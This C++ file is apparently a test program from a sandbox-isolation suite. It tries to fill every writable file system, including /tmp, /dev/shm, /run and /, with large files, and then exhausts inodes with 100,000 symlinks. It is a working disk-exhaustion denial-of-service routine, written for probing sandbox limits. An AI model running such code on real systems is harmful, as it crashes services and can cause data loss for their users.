// Fills every file system that it may write to, with bytes and with names.
// Says: No space left on device
#include "attack.hpp"

#include <string>

int main()
{
    static char bytes[1 << 20];
    int error = 0;
    for (std::string folder : {".", "/tmp", "/var/tmp", "/dev/shm", "/run", "/"}) {
        for (int file = 0; file < 40; file++) {
            int fd = open((folder + "/full-" + std::to_string(file)).c_str(), O_CREAT | O_WRONLY, 0600);
            for (int i = 0; i < 10 && fd != -1; i++)
                if (write(fd, bytes, sizeof bytes) == -1)
                    error = errno;
        }
    }
    for (int file = 0; file < 100000; file++)
        if (symlink("x", std::to_string(file).c_str()) == -1)
            return end(strerror(error));
    return end("there was no end of it");
}
